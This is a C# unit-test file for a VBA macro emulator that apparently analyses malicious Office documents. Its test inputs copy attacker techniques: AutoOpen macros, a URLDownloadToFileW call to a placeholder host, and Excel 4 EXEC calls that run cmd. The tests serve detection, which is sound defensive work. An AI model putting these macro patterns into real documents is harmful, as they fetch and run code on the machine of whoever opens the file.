using Lurewatch.Files.Office;
using Lurewatch.Files.Office.Workbooks;
using Lurewatch.Scripts;
using Lurewatch.Scripts.Vba;
using Lurewatch.Scripts.Vba.Emulation;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts.Vba.Emulation;

/// <summary>What several modules, the document and the workbook have to do with each other.</summary>
public sealed class VbaModuleTests
{
    private const string Builder = "Private all As String\nPublic Sub Add(x As String)\nall = all & x\nEnd Sub\nPublic Property Get Line() As String\nLine = all\nEnd Property\n";

    private static IReadOnlyList<string> Actions(string main, ScriptActionKind kind = ScriptActionKind.Run, VbaModuleKind builder = VbaModuleKind.Class, IVbaHost? host = null) =>
        [.. VbaEmulator.Run([new VbaModule("M", VbaModuleKind.Standard, "", main), new VbaModule("Builder", builder, "", Builder)], host ?? new NoDocument("word", ""), Emulated.Budget()).Record.Actions
            .Where(action => action.Kind == kind).Select(action => action.Target)];

    [Fact]
    public void An_object_of_a_later_modules_class_is_there_from_the_start() =>
        Actions("Public g As New Builder\nSub AutoOpen()\ng.Add \"a\"\ng.Add \"b\"\nShell g.Line\nEnd Sub\n").ShouldBe(["ab"]);

    [Fact]
    public void A_class_whose_kind_the_project_lies_about_is_one_where_it_is_made() =>
        Actions("Sub AutoOpen()\nDim g As New Builder\ng.Add \"a\"\nShell g.Line\nEnd Sub\n", builder: VbaModuleKind.Standard).ShouldBe(["a"]);

    [Fact]
    public void A_member_of_an_enumeration_is_known_with_and_without_its_name() =>
        Actions("Enum E1\neA = 60\neC\nEnd Enum\nSub AutoOpen()\nShell Chr(E1.eC) & Chr(eC + 1)\nEnd Sub\n").ShouldBe(["=>"]);

    [Fact]
    public void A_variable_that_code_adds_to_the_document_is_read_back() =>
        Actions("Sub AutoOpen()\nActiveDocument.Variables.Add \"v\", \"added\"\nShell ActiveDocument.Variables(\"v\").Value\nEnd Sub\n").ShouldBe(["added"]);

    [Fact]
    public void What_a_pointer_leads_to_is_what_a_function_of_Windows_gets() =>
        Actions("Private Declare PtrSafe Function dl Lib \"urlmon\" Alias \"URLDownloadToFileW\" (ByVal a As LongPtr, ByVal b As LongPtr, ByVal c As LongPtr, ByVal d As Long, ByVal e As LongPtr) As Long\n"
            + "Sub AutoOpen()\nDim u As String\nu = \"http://a.ex\" & \"ample/x\"\ndl 0, StrPtr(u), StrPtr(\"c:\\y\"), 0, 0\nEnd Sub\n", ScriptActionKind.Fetch).ShouldBe(["http://a.example/x"]);

    [Theory]
    [InlineData("")]
    [InlineData("Application.")]
    public void An_Excel_4_formula_is_worked_out(string qualifier) =>
        Actions("Sub Auto_Open()\n" + qualifier + "ExecuteExcel4Macro \"EXEC(\"\"cmd /c a\"\"&\"\"b\"\")\"\nEnd Sub\n", host: Book()).ShouldBe(["cmd /c ab"]);

    [Fact]
    public void A_macro_sheet_that_VBA_writes_runs_from_the_cell_that_it_names() =>
        Actions("Sub Auto_Open()\nExcel4MacroSheets.Add.Name = \"S\"\nSheets(\"S\").Range(\"B1\") = \"cmd /c q\"\nSheets(\"S\").Range(\"A1\") = \"=EXEC(B1)\"\nSheets(\"S\").Range(\"A2\") = \"=HALT()\"\nApplication.Run Sheets(\"S\").Range(\"A1\")\nEnd Sub\n", host: Book()).ShouldBe(["cmd /c q"]);

    private static DocumentHost Book()
    {
        var workbook = new Workbook();
        workbook.Sheets.Add(new WorkbookSheet("Sheet1", isMacro: false, "visible"));
        return new DocumentHost("excel", "x.xls", new DocumentContent(), workbook);
    }
}
